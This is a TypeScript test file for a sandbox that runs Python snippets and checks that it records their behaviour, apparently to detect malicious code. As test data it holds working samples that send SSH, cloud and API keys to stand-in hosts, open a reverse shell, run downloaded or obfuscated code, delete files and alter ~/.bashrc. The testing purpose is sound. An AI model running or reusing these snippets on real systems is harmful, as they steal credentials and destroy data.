import type { SandboxRun } from '@assay/analysis/runs/observation';
import { buildPlan, type ExerciseUnit } from '@assay/analysis/runs/plan';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEmbeddedSandbox } from './embedded.ts';

// Far above what the tests need, so that a busy machine does not change a result.
const sandbox = createEmbeddedSandbox({ unitWallMs: 60_000, totalWallMs: 280_000 });
afterAll(() => sandbox.close());

const lines = (...text: string[]): string => text.join('\n');
const LEAK = 'net | POST https://c.example.invalid/u | canary:ssh-key upload';
const KEY = 'open(os.path.expanduser("~/.ssh/id_rsa")).read()';

/** Each is one unit of one plan, with the act that the sandbox must record. */
const ACTS: Record<string, [code: string, seen: string]> = {
  'open and requests': [
    lines('import os, requests', `k = ${KEY}`, 'requests.post("https://c.example.invalid/u", data=k)'),
    LEAK,
  ],
  'with, f-string and a function': [
    lines(
      'import requests, os.path',
      'def send(v):',
      '    requests.post(f"https://{host}/u", json={"k": v})',
      'host = "c.example.invalid"',
      'with open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")) as f:',
      '    send(f.read())',
    ),
    LEAK,
  ],
  'pathlib and urllib': [
    lines(
      'from pathlib import Path',
      'import urllib.request',
      'r = urllib.request.Request("https://c.example.invalid/u", data=(Path.home() / ".ssh" / "id_rsa").read_bytes())',
      'urllib.request.urlopen(r)',
    ),
    LEAK,
  ],
  'the standard client': [
    lines(
      'import http.client, os',
      'c = http.client.HTTPSConnection("c.example.invalid")',
      `c.request("POST", "/u", body=${KEY})`,
      'c.getresponse().read()',
    ),
    LEAK,
  ],
  'an uploaded file object': [
    lines(
      'import httpx, os',
      'httpx.post("https://c.example.invalid/u", files={"f": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})',
    ),
    LEAK,
  ],
  'a class and a session': [
    lines(
      'import requests, os',
      'class Sender:',
      '    def __init__(self, url):',
      '        self.url = url',
      '    def go(self):',
      '        s = requests.Session()',
      `        s.post(self.url, data=${KEY})`,
      'Sender("https://c.example.invalid/u").go()',
    ),
    LEAK,
  ],
  'a function nobody calls': [
    lines(
      'import requests, os',
      'def hidden(a, b: int):',
      `    requests.post("https://c.example.invalid/u", data=${KEY})`,
    ),
    LEAK,
  ],
  'a method nobody calls': [
    lines(
      'import requests, os',
      'class Hidden:',
      '    def __init__(self, where):',
      '        self.where = where',
      '    def go(self, much):',
      `        requests.post("https://c.example.invalid/u", data=${KEY})`,
    ),
    LEAK,
  ],
  'a thread': [
    lines(
      'import requests, os, threading',
      'def go(v):',
      '    requests.post("https://c.example.invalid/u", data=v)',
      `threading.Thread(target=go, args=(${KEY},)).start()`,
    ),
    LEAK,
  ],
  'a coroutine that waits': [
    lines(
      'import aiohttp, asyncio, os',
      'async def main():',
      '    await asyncio.sleep(3600)',
      '    async with aiohttp.ClientSession() as s:',
      `        async with s.post("https://c.example.invalid/u", data=${KEY}) as r:`,
      '            await r.text()',
      'asyncio.run(main())',
    ),
    LEAK,
  ],
  'a cipher nobody knows': [
    lines(
      'import requests, os',
      'from mycrypt import seal',
      `requests.post("https://c.example.invalid/u", data=seal(${KEY}))`,
    ),
    LEAK,
  ],
  'arguments that it asks for': [
    lines(
      'import argparse, requests, os',
      'p = argparse.ArgumentParser()',
      'p.add_argument("input")',
      'p.add_argument("--kind", choices=["a", "b"], required=True)',
      'a = p.parse_args()',
      `requests.post("https://c.example.invalid/u", data=${KEY})`,
    ),
    LEAK,
  ],
  'base64 and a loop over a folder': [
    lines(
      'import os, base64, requests',
      'for root, _, names in os.walk(os.path.expanduser("~/.aws")):',
      '    for name in names:',
      '        data = base64.b64encode(open(os.path.join(root, name), "rb").read())',
      '        requests.post("https://c.example.invalid/u", data=data)',
    ),
    'net | POST https://c.example.invalid/u | canary:cloud-key upload via:base64',
  ],
  'a bare socket': [
    lines(
      'import socket, os',
      's = socket.socket()',
      's.connect(("192.0.2.9", 4444))',
      's.sendall(open(os.path.expanduser("~/.netrc")).read().encode())',
    ),
    'net | CONNECT tcp://192.0.2.9:4444 | canary:gh-token upload',
  ],
  'one’s own key in a header': [
    lines(
      'import os, requests',
      'k = os.environ["OPENAI_API_KEY"]',
      'requests.post("https://api.openai.com/v1/x", headers={"Authorization": f"Bearer {k}"}, json={})',
    ),
    'net | POST https://api.openai.com/v1/x | auth canary:env-token env:OPENAI_API_KEY upload',
  ],
  'the whole environment': ['import os, json\njson.dumps(dict(os.environ))', 'env | all variables | bulk-env'],
  'a delete of what is not there': [
    'import shutil, os\nshutil.rmtree(os.path.expanduser("~/Documents"))',
    'delete | ~/Documents | outside-work',
  ],
  'a shell profile': [
    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("x")',
    'persist | ~/.bashrc | outside-work',
  ],
  'downloaded code': [
    'import requests\nexec(requests.get("https://s.example.invalid/a.py").text)',
    'exec | exec https://s.example.invalid/a.py | downloaded second-stage',
  ],
  'decoded code': [
    'import base64\nexec(base64.b64decode("cHJpbnQoMSkKcHJpbnQoMik="))',
    'exec | exec print(1) print(2) | decoded second-stage',
  ],
  'a name look-up': ['import socket\nsocket.gethostbyname("x.example.invalid")', 'dns | x.example.invalid | '],
  'a command': ['import os\nos.system("id")', 'exec | id | '],
  'a command as a list': [
    'import subprocess as sp\nsp.run(["ls", "-la", "a b"], check=True)',
    "exec | ls -la 'a b' | ",
  ],
  'a name built from pieces': ['import os\ngetattr(os, "sys" + "tem")("id")', 'exec | id | '],
  'arithmetic that hides a name': [
    'exec("".join(chr(c ^ 7) for c in [110, 106, 119, 104, 117, 115, 39, 104, 116, 13, 104, 116, 41, 116, 126, 116, 115, 98, 106, 47, 37, 110, 99, 37, 46]))',
    'exec | id | ',
  ],
  'a shell tied to a connection': [
    lines(
      'import socket, os, pty',
      's = socket.socket()',
      's.connect(("192.0.2.9", 4444))',
      'os.dup2(s.fileno(), 0)',
      'pty.spawn("/bin/sh")',
    ),
    'exec | /bin/sh | shell',
  ],
  'a command from a connection': [
    lines(
      'import socket, subprocess',
      's = socket.create_connection(("192.0.2.9", 4444))',
      'subprocess.run(s.recv(1024).decode(), shell=True)',
    ),
    'exec | assay_second_stage_0 | ',
  ],
  'another program in Python': [
    lines('import subprocess, sys', 'subprocess.run([sys.executable, "-c", "import os; os.remove(\'/etc/hosts\')"])'),
    'delete | /etc/hosts | outside-work',
  ],
  'what it wrote, given to a command': [
    lines(
      'import os, shutil, subprocess',
      'shutil.copy(os.path.expanduser("~/.ssh/id_rsa"), "/tmp/k")',
      'print(subprocess.check_output(["cat", "/tmp/k"], text=True)[:5])',
      'os.system("curl -d @/tmp/k https://c.example.invalid/u")',
    ),
    LEAK,
  ],
};

const QUIET: Record<string, string> = {
  'arithmetic and printing': 'x = 1 + 2\nprint(f"{x}")',
  'its own files': 'from pathlib import Path\nPath("data.txt").write_text("a")\nprint(Path("data.txt").read_text())',
  'words about secrets': 'HELP = "never post ~/.ssh/id_rsa to https://x.example.invalid"',
};

const unit = (id: string, code: string): ExerciseUnit => ({
  id,
  kind: 'script',
  language: 'python',
  path: 'main.py',
  line: 1,
  code,
  args: [],
  reachable: true,
});
const runAll = (codes: [string, string][]): Promise<SandboxRun> =>
  sandbox.run(buildPlan({ digest: 'd', units: codes.map(([id, code]) => unit(id, code)), files: [] }));
const seen = (run: SandboxRun, id: string): string[] =>
  run.observations
    .filter((act) => act.unit === id)
    .map(({ kind, target, data }) => [kind, target, data.join(' ')].join(' | '));

describe('Python, run for real', () => {
  let run: SandboxRun;
  beforeAll(async () => {
    run = await runAll([
      ...Object.entries(ACTS).map(([id, [code]]): [string, string] => [id, code]),
      ...Object.entries(QUIET),
    ]);
  }, 300_000);

  it.each(Object.entries(ACTS))('sees %s', (id, [, expected]) => {
    expect([...seen(run, id), ...run.gaps.filter((gap) => gap.unit === id).map(({ reason }) => reason)]).toContain(
      expected,
    );
  });
  it.each(Object.keys(QUIET))('sees nothing but %s', (id) => {
    expect(seen(run, id).filter((act) => !act.startsWith('write | ~/project/skill/'))).toEqual([]);
  });
  it('counts everything as run', () => {
    expect(run.exercised).toHaveLength(Object.keys(ACTS).length + Object.keys(QUIET).length);
    expect(run.observations.filter(({ basis }) => basis !== 'run')).toEqual([]);
  });
});
